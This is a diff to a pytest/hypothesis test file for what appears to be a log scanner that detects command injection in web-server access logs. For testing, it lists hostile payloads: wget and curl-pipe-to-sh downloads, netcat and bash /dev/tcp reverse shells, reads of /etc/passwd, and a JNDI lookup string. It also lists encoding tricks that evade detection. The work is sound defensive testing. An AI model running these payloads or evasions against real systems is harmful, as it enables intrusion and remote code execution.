@@ -3,11 +3,15 @@ accounting of the full path, on the sample logs, the corpus and generated evasio
 
 from __future__ import annotations
 
-import pytest
+import base64
 
-from conftest import REAL_APACHE_LINES, SAMPLE_LOGS, combined_line, corpus_cases
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from conftest import CORPUS, REAL_APACHE_LINES, SAMPLE_LOGS, combined_line, corpus_cases
 from dropscan.logformat import LogFormat, compile_format
-from dropscan.sources import Source, open_blocks
+from dropscan.sources import Source, is_log_like, open_blocks
 
 COMBINED = compile_format("combined")
 
@@ -22,6 +26,8 @@ def _compare(fast, full, chunk: bytes, fmt=COMBINED):
 
 def test_sample_logs(fast_scanner, full_scanner):
     for p in SAMPLE_LOGS.iterdir():
+        if not is_log_like(p.name):  # kern.log: the firewall-log sample
+            continue
         data = b"".join(open_blocks(Source(str(p))))
         fmt = compile_format("vhost_combined" if "vhost" in p.name else "combined")
         res = _compare(fast_scanner, full_scanner, data, fmt)
@@ -58,7 +64,7 @@ PREFIX = b'203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 '
     ("fmt", "line", "rule"),
     [
         # not a record (a vhost prefix under combined): its raw text holds the field quotes
-        (COMBINED, b"www.example.com:80 " + PREFIX + b'";" "bash -c "', "rce.command-injection"),
+        (COMBINED, b"www.example.com:80 " + PREFIX + b'";" "bash -c "', "rce.shell-command"),
         # raw double quotes inside an unquoted field (a server that does not escape them)
         (UNQUOTED_HEADER, PREFIX + b';w""get%20http://203.0.113.9/x', "dropper.wget"),
         # a raw vertical tab, which the cmd view makes a space
@@ -68,3 +74,81 @@ PREFIX = b'203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 '
 def test_quotes_and_spaces_the_cmd_view_removes_reach_the_fast_path(fast_scanner, full_scanner, fmt, line, rule):
     res = _compare(fast_scanner, full_scanner, line + b"\n", fmt)
     assert [f.rule_ids[0] for f in res.findings] == [rule]
+
+
+# --- generated evasions: the prefilter must pass every line the full path finds something in ---
+BASES = [
+    "wget http://198.51.100.1/x.sh",
+    "curl -s 198.51.100.1:8080/x|sh",
+    "nc -e /bin/sh 198.51.100.1 4444",
+    "bash -i >& /dev/tcp/198.51.100.1/443 0>&1",
+    "cat /etc/passwd",
+    "id",
+    "whoami",
+    "uname -a",
+    "ping -c 3 198.51.100.1",
+    "${jndi:ldap://198.51.100.1/a}",
+    "system('id')",
+    "__import__('os').system('id')",
+    "for %a in (x) do calc",
+]
+SEPARATORS = [";", "|", "||", "&&", "& ", "\n", "`", "$(", "; ", "| "]
+
+
+def _quote_inside(word: str, q: str) -> str:
+    return q.join(word) if len(word) > 1 else word
+
+
+TRANSFORMS = {
+    "pct": lambda s: "".join(f"%{b:02x}" for b in s.encode()),
+    "pct_upper": lambda s: "".join(f"%{b:02X}" for b in s.encode()),
+    "pct_u": lambda s: "".join(f"%u{ord(c):04x}" for c in s),
+    "entity": lambda s: "".join(f"&#{ord(c)};" for c in s),
+    "json_u": lambda s: "".join(f"\\u{ord(c):04x}" for c in s),
+    "squote": lambda s: " ".join(_quote_inside(w, "'") for w in s.split(" ")),
+    "dquote": lambda s: " ".join(_quote_inside(w, '"') for w in s.split(" ")),
+    "backslash": lambda s: " ".join(_quote_inside(w, "\\") for w in s.split(" ")),
+    "ifs": lambda s: s.replace(" ", "${IFS}"),
+    "ifs9": lambda s: s.replace(" ", "$IFS$9"),
+    "plus": lambda s: s.replace(" ", "+"),
+    "tab": lambda s: s.replace(" ", "\t"),
+    "brace": lambda s: "{" + s.replace(" ", ",") + "}",
+    "upper": str.upper,
+    "b64": lambda s: "echo " + base64.b64encode(s.encode()).decode() + " | base64 -d | sh",
+    "ansi": lambda s: "$'" + "".join(f"\\x{ord(c):02x}" for c in s) + "'",
+    "empty_expansion": lambda s: s.replace("a", "a$@").replace("i", "i``"),
+}
+
+
+@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    base=st.sampled_from(BASES),
+    sep=st.sampled_from(SEPARATORS),
+    chain=st.lists(st.sampled_from(sorted(TRANSFORMS)), max_size=3),
+    where=st.sampled_from(["target", "path", "ua", "referer"]),
+)
+def test_generated_evasions_pass_the_prefilter(fast_scanner, full_scanner, base, sep, chain, where):
+    text = sep + base
+    for name in chain:
+        text = TRANSFORMS[name](text)
+    if where == "target":
+        line = combined_line("/x.php?c=" + text.replace(" ", "%20"))
+    elif where == "path":
+        line = combined_line("/cgi-bin/" + text.replace(" ", "%20"))
+    elif where == "ua":
+        line = combined_line("/", ua=text)
+    else:
+        line = combined_line("/", referer=text)
+    full, _ = full_scanner.scan_line(line.rstrip(b"\n"), COMBINED)
+    if full is not None:
+        assert fast_scanner.prefilter(COMBINED).candidates(line), (text, full.rule_ids)
+    _compare(fast_scanner, full_scanner, line)
+
+
+def test_prefilter_passes_few_benign_lines(fast_scanner):
+    """Keywords must stay specific: on real benign traffic the fast path parses few lines."""
+    log = CORPUS / "elastic-apache-logs" / "apache_logs"
+    if not log.is_file():
+        pytest.skip("elastic-apache-logs not in the corpus")
+    data = log.read_bytes()
+    assert len(fast_scanner.prefilter(COMBINED).candidates(data)) / data.count(b"\n") < 0.01
